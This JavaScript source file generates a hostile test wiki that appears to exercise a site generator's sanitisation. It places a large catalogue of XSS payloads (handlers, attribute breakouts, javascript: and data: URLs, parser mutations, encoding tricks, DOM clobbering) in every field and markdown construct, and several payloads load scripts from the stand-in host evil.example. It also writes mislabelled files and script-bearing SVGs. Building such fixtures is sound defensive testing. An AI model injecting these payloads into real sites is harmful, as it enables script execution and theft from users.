// A wiki as a stranger would write it: every payload in every place that takes text, and files that are not what they
// are called. `PAYLOADS` and `places` are the table; a row is a payload, its page holds it in all places.

import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";

const EVIL = "https://evil.example";
const RUN = "alert(1)";

/** What strangers write, by the kind of attack. */
const KINDS = {
  scripts: [
    `<script>${RUN}</script>`,
    `<SCRIPT/x src=${EVIL}/x.js></SCRIPT>`,
    `<script type="module">import "${EVIL}/x.js"</script>`,
    `</script><script>${RUN}</script>`,
    `<!--<script>${RUN}//--></script>`,
    `"}]});${RUN};({a:[{b:"</script>`,
    `\u2028${RUN}\u2029</script>`,
  ],
  "ends of elements": ["title", "style", "textarea", "noscript", "template", "article", "body", "html"].map((name) => `</${name}><img src=x onerror=${RUN}>`),
  handlers: [
    `<img src=x onerror=${RUN}>`,
    `<img/src=x/onerror=${RUN}>`,
    `<b onmouseover=${RUN} onfocus=${RUN} tabindex=0 autofocus>x</b>`,
    `<details open ontoggle=${RUN}><summary>x</summary></details>`,
    `<svg onload=${RUN}></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
    `<body onload=${RUN} onpageshow=${RUN}>`,
    `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>`,
    `<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
    `<marquee onstart=${RUN}>x</marquee><x-y onclick=${RUN}>x</x-y>`,
  ],
  attributes: [
    `" onmouseover="${RUN}" x="`,
    `' onmouseover='${RUN}' x='`,
    `\` onmouseover=${RUN} x=\``,
    `"><img src=x onerror=${RUN}>`,
    `'><script>${RUN}</script>`,
    `x" autofocus tabindex="0" onfocus="${RUN}`,
    `&quot;&gt;&lt;img src=x onerror=${RUN}&gt;`,
    `&#34;&#62;&#60;script&#62;${RUN}&#60;/script&#62;`,
    `x\\" onmouseover=\\"${RUN}`,
    `<a title="</a><img src=x onerror=${RUN}>">x</a>`,
  ],
  addresses: [
    `javascript:${RUN}`,
    `jAvAsCrIpT:${RUN}`,
    `\u0001javascript:${RUN}`,
    `java\tscript:${RUN}`,
    `javascript&colon;${RUN}`,
    `&#106;&#x61;vascript:${RUN}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
    `view-source:javascript:${RUN}`,
    `blob:${EVIL}/x`,
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="java&#x0A;script:${RUN}">x</a>`,
    `<a href=" &#14; javascript:${RUN}">x</a>`,
    `<img src="javascript:${RUN}"><q cite="javascript:${RUN}">x</q>`,
    `/.//evil.example/`,
    `/\\evil.example/`,
  ],
  mutations: [
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
    `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a><script>${RUN}</script></svg>`,
    `<math href="javascript:${RUN}"><mrow xlink:href="javascript:${RUN}"><mi>x</mi></mrow></math>`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<svg><![CDATA[</svg><img src=x onerror=${RUN}>]]>`,
    `<!--><script>${RUN}</script>-->`,
    `<!-- --!><script>${RUN}</script> -->`,
    `<?xml-stylesheet href="javascript:${RUN}"?><?php ${RUN} ?>`,
    `<template><script>${RUN}</script></template>`,
    `<style><style/><img src=x onerror=${RUN}>`,
    `<table><td background="${EVIL}/x.png"><a href="javascript:${RUN}"><table>`,
    `<p><b><p><a href="x"><div><a href="javascript:${RUN}">x`,
    `<xmp><img src=x onerror=${RUN}></xmp><plaintext>x`,
  ],
  loads: [
    `<iframe src="javascript:${RUN}" srcdoc="<script>${RUN}</script>"></iframe>`,
    `<object data="javascript:${RUN}"></object><embed src="${EVIL}/x.swf">`,
    `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/">`,
    `<link rel="stylesheet" href="${EVIL}/x.css"><style>@import "${EVIL}/x.css"</style>`,
    `<form action="${EVIL}/"><input name="q" type="image" src="${EVIL}/x.png"><button formaction="javascript:${RUN}">x</button></form>`,
    `<b style="background:url(${EVIL}/x.png)">x</b>`,
    `<img srcset="${EVIL}/x.png 1x" src="javascript:0"><video poster="${EVIL}/x.png"></video>`,
    `<a href="/" ping="${EVIL}/" target="_blank" download>x</a>`,
  ],
  characters: [
    `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
    `<\u017fcript>${RUN}</\u017fcript>`,
    `<img\u00a0src=x\u3000onerror=${RUN}>`,
    `\u202e<script>${RUN}</script>\u2066`,
    `\ufeff<script\u0085>${RUN}</script>`,
    `%3Cscript%3E${RUN}%3C/script%3E %C0%BCscript%C0%BE`,
    `\\u003cscript>${RUN}\\x3c/script>`,
    `<\\script>${RUN}<\\/script>`,
  ],
  templates: [`{{ 7 * 7 }}{{ site | safe }}`, `{% include "parts/head.html" %}`, `{%- set x = 1 -%}{# x #}`, `\${${RUN}}<%= ${RUN} %>`],
  names: [
    `<a id="requestIdleCallback" name="body">x</a><img name="documentElement" id="currentScript" src="picture.svg">`,
    `<p id="main">x</p><p id="search-list-1">x</p><p id="link-preview">x</p><p id="references">x</p>`,
    `<form id="search" name="querySelector"><input name="body"></form>`,
    `<b id="toString">x</b><b id="hasOwnProperty">x</b><b id="__proto__">x</b>`,
  ],
  "parts of the page": [
    `<div class="cards"><a href="/">x</a></div>`,
    `<ul class="cards"><li><a href="/">x</a></li></ul>`,
    `<div class="toc">x</div>`,
    `<section class="timeline"><section><h2>x</h2></section></section>`,
    `<div class="search-panel">x</div><div class="skip-link" tabindex="0">x</div><div class="preview">x</div>`,
    `<div class="site-header"><details class="menu" open data-wide="1rem"><summary data-fold>x</summary></details></div>`,
    `<div class="infobox hero page home wide">x</div><div class="visually-hidden unscripted narrow">x</div>`,
    `<div role="dialog" aria-label="x" style="position:fixed;inset:0;z-index:9999">x</div>`,
    `<dialog open>x</dialog><div popover id="x">x</div><div hidden inert data-search-page data-random="/">x</div>`,
  ],
};

/** One row for each payload: what kind it is, and its number in the whole table. */
export const PAYLOADS = Object.entries(KINDS).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text }))).map((row, number) => ({ ...row, number }));

/** Elements that raw HTML asks for, with every attribute that does something. */
const ELEMENTS = `a abbr address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br
  button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl dt
  element em embed fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup
  hr html i iframe image img input ins isindex kbd keygen label layer legend li link listing main map mark marquee math menu
  menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture
  plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select selectedcontent shadow slot small
  source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr
  track tt u ul var video wbr xmp x-y`.split(/\s+/);

const ATTRIBUTES = [
  ...["onclick", "onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onbeforetoggle", "onanimationstart"].map((name) => `${name}="${RUN}"`),
  ...["href", "src", "action", "formaction", "data", "cite", "poster", "background", "longdesc", "xlink:href", "ping", "manifest"].map((name) => `${name}="javascript:${RUN}"`),
  `style="position:fixed;inset:0;background:url(${EVIL}/x.png)" srcdoc="<script>${RUN}</script>" srcset="${EVIL}/x.png 1x"`,
  `http-equiv="refresh" content="0;url=${EVIL}/" is="x-y" slot="x" part="x" popover contenteditable autofocus accesskey="x"`,
  `title='"><img src=x onerror=${RUN}>' class='"><script>${RUN}</script>' lang='"onload=${RUN}' dir='x' role='dialog'`,
  `aria-label="\`><img src=x onerror=${RUN}>" data-scope="&quot;><script>${RUN}</script>" data-wide="1rem" data-search-page`,
  `width="99999" height="99999" colspan="99999" rowspan="99999" tabindex="1" name="body" id="main" class="cards search-panel"`,
];

/** The elements, each with each set of attributes, as the text of a page of their own. */
function elementsPage() {
  const tags = ELEMENTS.flatMap((name) => ATTRIBUTES.map((attributes) => `<${name} ${attributes}>x</${name}>`));
  return `${frontMatter({ title: "Elements" })}Zirconium.\n\n${tags.join("\n\n")}\n`;
}

/** A payload in all places of a page: the front matter and the text. */
function everywhere({ text: p, number: n }) {
  const head = {
    title: `Page ${n} ${p}`,
    description: `Description ${p}`,
    aliases: p.includes("/.") ? [] : [`Alias ${n} ${p}`], // A part that begins with a dot is refused.
    categories: [`Category ${n} ${p}`],
    image: { src: "picture.svg", alt: p, caption: p, credit: p, licence: p },
    info: { [`Label ${p}`]: [p, `[[Target|${p}]]`, { value: p, spoiler: "film" }, { value: p, source: `source-${n}` }] },
    anchors: { [p]: "Heading" },
    motto: p,
    homepage: p,
    friends: [p, "Target"],
    roles: [{ who: "Target", note: p }],
    claims: [{ property: "rumour", value: p, by: p, note: p, said: "2024", sources: [`source-${n}`] }],
    query: { type: "thing", caption: p, empty: p, view: "table", show: ["motto", "homepage", "friends"], limit: 3 },
  };
  const cell = p.replaceAll("|", "\\|");
  const quoted = p.replaceAll("\\", "\\\\").replaceAll('"', '\\"');
  const blocks = [
    "Zirconium.",
    `## Heading ${p}`,
    `### Own id {#${p}}`,
    `Text ${p} and **${p}** and ==${p}== and \`${p}\` and %%${p}%% ^block${n}`,
    `- item ${p}\n- [x] ${p}`,
    `${p}\n: ${p}`,
    `> quote ${p}`,
    `> [!${p}] Title\n> text`,
    `> [!note] ${p}\n> ${p}`,
    `> [!spoiler|${p}]- ${p}\n> ${p}`,
    `| ${cell} | b |\n|---|---|\n| ${cell} | [[Target\\|${cell}]] |`,
    `[${p}](/) [text](<${p}>) [text](${p}) [text](/ "${p}") [text](/ "${quoted}") [text](/ '${p}')`,
    `[[Target|${p}]] [[${p}]] [[Target#${p}]] ![[${p}]] <${p}>`,
    `![${p}](picture.svg "${quoted}")`,
    `![[picture.svg|${p}]] ![x](<${p}>)`,
    `[reference ${n}] and [reference][${p}] and [@source-${n}, ${p}] and [@${p}]\n\n[reference ${n}]: <${p}> "${quoted}"`,
    `\`\`\`${p}\n${p}\n\`\`\``,
    `\`\`\`query\ntype: thing\nview: cards\nlimit: 3\ncaption: ${yaml(p)}\n\`\`\``,
    `\`\`\`query\ntype: ${yaml(p)}\nsort: ${yaml(p)}\nview: table\nshow: [${yaml(p)}]\nempty: ${yaml(p)}\n\`\`\``,
    `$\\text{${p}} \\href{${p}}{x} \\class{${p}}{x} \\color{${p}} x$ and $$${p}$$`,
    `Note[^${n}] and note[^${p}]\n\n[^${n}]: ${p}\n[^${p}]: ${p}`,
    `![[picture.svg|right|alt=${p}|link=${p}|${p}]]\n\n![${p}|left](picture.svg "${quoted}")`,
    `\`\`\`gallery ${p}\npicture.svg | alt=${p} | ${p}\n${p}\n\`\`\``,
    `> [!tab] ${p}\n> ${p}\n\n> [!tab] Two\n> Two.`,
    `<table><caption>${p}</caption><tr><td>${p}</td><th>*x* ${p}</th></tr></table>`,
    `| a |\n| - |\n| b |\n{sortable caption="${p}"}`,
    `![${p}](https://youtu.be/dQw4w9WgXcQ "${quoted}") ![${p}](https://youtu.be/${p})`,
    `\`\`\`navbox\ntitle: ${yaml(p)}\ntext: ${yaml(p)}\nopen: true\n\`\`\``,
    `\`\`\`family-tree\nof: ${yaml(p)}\ntitle: ${yaml(p)}\n\`\`\`\n\n\`\`\`query\naround: ${yaml(p)}\n\`\`\``,
    `\`\`\`portals\npages: [Target, ${yaml(p)}]\ntitle: ${yaml(p)}\n\`\`\``,
    `\`\`\`did-you-know\nquery: {type: thing, show: [motto], limit: 3}\n\`\`\``,
    `<div title="${p}">${p}</div>\n\n<b class='${p}' id='${p}'>x</b> <a href='${p}'>x</a> <img src='${p}' alt='${p}'>`,
  ];
  return `${frontMatter(head)}${blocks.join("\n\n")}\n`;
}

/** A payload as all that there is, first in the text. */
function alone({ text, number }) {
  return `${frontMatter({ title: `Alone ${number}` })}${text}\n\nZirconium.\n\n## First\n\ntext\n\n## Second\n\n${text}\n`;
}

function frontMatter(values) {
  const lines = Object.entries(values).map(([key, value]) => `${key}: ${yaml(value)}`);
  return `---\n${lines.join("\n")}\n---\n`;
}

// JSON is YAML, as long as characters that cannot be seen are escaped.
function yaml(value) {
  const escaped = (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, "0")}`;
  return JSON.stringify(value).replace(/[\u007f-\uffff]/g, escaped);
}

function source({ text: p, number }) {
  const values = { title: `Source ${p}`, author: p, publisher: p, url: p, archive: p, reliability: p, note: p, quote: p, kind: "news", date: "2023" };
  return `source-${number}: ${yaml(values)}\n`;
}

/** Names of pages and pictures, where a name may hold anything but a slash. */
export const NAMES = [
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}`,
  `javascript:${RUN}`,
  `{{ 7 * 7 }}`,
  `&lt;script&gt;${RUN}&lt;`,
  "\u202egpj",
  "#?%2e%00",
];

/** Files whose content is not what their name says, and what a browser may take them for. */
export const FILES = {
  "files/page.png": `<!DOCTYPE html><script>${RUN}</script>`,
  "files/page.jpg": `\xff\xd8\xff<html><script>${RUN}</script>`,
  "files/page.txt": `<html><script>${RUN}</script>`,
  "files/page.json": `"<html><script>${RUN}</script>"`,
  "files/page.pdf": `<html><script>${RUN}</script>`,
};

/** Drawings that run scripts wherever a browser lets them: put where only the wiki's owner can, to try the headers. */
export const DRAWINGS = {
  "script.svg": `<script>${RUN}</script>`,
  "module.svg": `<script type="module" href="/own.js"/><script href="data:text/javascript,${RUN}"/>`,
  "own.svg": `<script href="own.js"/>`,
  "handlers.svg": `<rect width="9" height="9" onclick="${RUN}"/><animate onbegin="${RUN}" attributeName="x" dur="1s"/><image href="x" onerror="${RUN}"/>`,
  "foreign.svg": `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"><img src="x" onerror="${RUN}"/><iframe src="javascript:${RUN}"/></body></foreignObject>`,
};

const SETTINGS = `title = "Hostile"
base_url = "https://hostile.example/"
[[nav]]
title = "Pages"
url = "/things/"
[checks]
level = "lenient"
[spoilers]
film = "The film"
[components.navbox]
[components.family-tree]
[components.portals]
[components.did-you-know]
[properties]
rumour = { many = true }
[types.thing]
folder = "things"
[types.thing.fields]
motto = { type = "text" }
homepage = { type = "url" }
friends = { type = "page", many = true, inverse = "friend_of" }
[types.thing.fields.roles]
type = "record"
many = true
[types.thing.fields.roles.fields]
who = { type = "page", inverse = "parts" }
note = { type = "text" }
[types.event]
folder = "events"
role = "event"
[types.event.fields]
date = { type = "date" }
status = { type = "text" }
`;

const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 60 40"><path d="M0 0h60v40z"/></svg>\n';

/** Writes the wiki into a folder that is made anew. */
export function writeHostile(root) {
  rmSync(root, { recursive: true, force: true });
  const write = (path, text) => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text, /^content\/files\//.test(path) ? "latin1" : "utf8");
  };
  write("site.toml", SETTINGS);
  write("content/index.md", "# Home\n\nZirconium.\n\n## One\n\ntext\n\n## Two\n\n[[Target]]\n");
  write("content/target.md", "# Target\n\ntext\n");
  write("content/things/picture.svg", PICTURE);
  write("content/things/elements.md", elementsPage());
  for (const row of PAYLOADS) {
    write(`content/things/p${row.number}.md`, everywhere(row));
    write(`content/things/a${row.number}.md`, alone(row));
    write(`content/events/e${row.number}.md`, `${frontMatter({ title: `Event ${row.text}`, description: row.text, date: "2024-01-01", status: "reported" })}${row.text}\n`);
  }
  write("content/sources/all.yaml", PAYLOADS.map(source).join(""));
  for (const name of NAMES) {
    write(`content/names/${name}.md`, `Zirconium. ![[${name}.svg]] ![x](<${name}.svg>) [[${name}]] [x](<${name}.md>)\n`);
    write(`content/names/${name}.svg`, PICTURE);
  }
  for (const [path, text] of Object.entries(FILES)) write(`content/${path}`, text);
  for (const [name, inside] of Object.entries(DRAWINGS)) {
    write(`static/${name}`, `<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99" onload="${RUN}">${inside}</svg>\n`);
  }
  write("static/own.js", `${RUN}\n`);
}
